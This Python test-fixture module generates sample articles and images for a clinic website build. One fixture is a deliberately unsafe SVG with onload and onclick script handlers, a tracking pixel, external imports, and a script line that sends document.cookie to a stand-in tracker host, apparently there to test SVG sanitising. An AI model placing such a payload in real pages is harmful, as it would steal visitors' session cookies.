"""The rich fixture site: the real content plus 24 articles that exercise
pagination, featured and body images, and every callout type.

The pictures are as staff would add them: the featured one a phone photo
(4032 x 3024, stored sideways with EXIF orientation, camera make and model,
GPS and XMP), a PNG with EXIF and XMP, and an SVG carrying a script, an event
handler and links to another site."""

from PIL import Image, ImageDraw

from bench.photos import phone_photo, photo_png

UNSAFE_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<!-- drawn in an editor -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 640 360"
     onload="alert(1)" inkscape:version="1.3">
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
  <script>fetch('https://tracker.example/?c=' + document.cookie)</script>
  <style>@import url(https://fonts.example/x.css); .room { fill: #0b5c63; }</style>
  <rect class="room" x="10" y="10" width="620" height="340" onclick="alert(2)"/>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <a href="https://elsewhere.example/"><text x="20" y="40">Waiting room</text></a>
  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
  <use xlink:href="https://elsewhere.example/sprite.svg#icon"/>
  <circle cx="320" cy="180" r="60" fill="#ffd54a"/>
</svg>
"""

ARTICLE_COUNT = 24
RICH_ARTICLE = """Title: {title}
Date: {date}
Category: {category}
Tags: {tags}
Summary: A plain summary of test article number {n}, long enough for the rules.
Author: Practice manager
{review}
{image}
## What this article covers

Some text for article {n}, with a [link to contact]({{filename}}../pages/contact.md).

## Second section

More text.

## Third section

!!! info "Good to know"
    An information callout.

!!! non-urgent "Speak to your care team if:"
    - a non-urgent callout item

!!! urgent "Call 988 now if:"
    - an urgent callout item

!!! emergency "Call 911 if:"
    - an emergency callout item
{body_image}
"""


def draw_image(path, size, colour):
    """A JPEG or PNG picture (by suffix) of a yellow circle on `colour`."""
    image = Image.new("RGB", size, colour)
    ImageDraw.Draw(image).ellipse([size[0] // 4, size[1] // 4, size[0] * 3 // 4, size[1] * 3 // 4],
                                   fill="#ffd54a")
    image.save(path, quality=85)


def add_rich_articles(content):
    """Write the test articles and their pictures into a copy of content/.
    The last article has a featured photo and a body PNG; the one before it a
    body photo only (its first picture); the one before that an SVG."""
    (content / "images").mkdir(exist_ok=True)
    phone_photo(content / "images" / "test-featured.jpg", seed=1)
    photo_png(content / "images" / "test-body.png", (1000, 600))
    draw_image(content / "images" / "test-small.jpg", (400, 300), "#4c6272")
    (content / "images" / "test-plan.svg").write_text(UNSAFE_SVG, encoding="utf-8")
    body_images = {
        ARTICLE_COUNT: "![A yellow circle on a grey background]({static}../images/test-body.png)",
        ARTICLE_COUNT - 1: "![A small yellow circle]({static}../images/test-small.jpg)",
        ARTICLE_COUNT - 2: "![The floor plan of the waiting room]({static}../images/test-plan.svg)",
    }
    for n in range(1, ARTICLE_COUNT + 1):
        last = n == ARTICLE_COUNT
        image = ("Image: images/test-featured.jpg\nImageAlt: A yellow circle on a teal background\n"
                 if last else "")
        body_image = f"\n{body_images[n]}\n" if n in body_images else ""
        (content / "articles" / f"2026-10-{n:02d}-test-article-{n}.md").write_text(RICH_ARTICLE.format(
            title=f"Test article {n}", date=f"2026-10-{n:02d}", n=n,
            category="Clinic news" if n % 2 else "Depression",
            # Depression is a medical category: its articles are reviewed.
            review="Medical: no" if n % 2 else "Reviewer: medical-director\nReviewed: 2026-11-20",
            tags="testing, sample" if n % 3 else "testing", image=image, body_image=body_image))
    return content
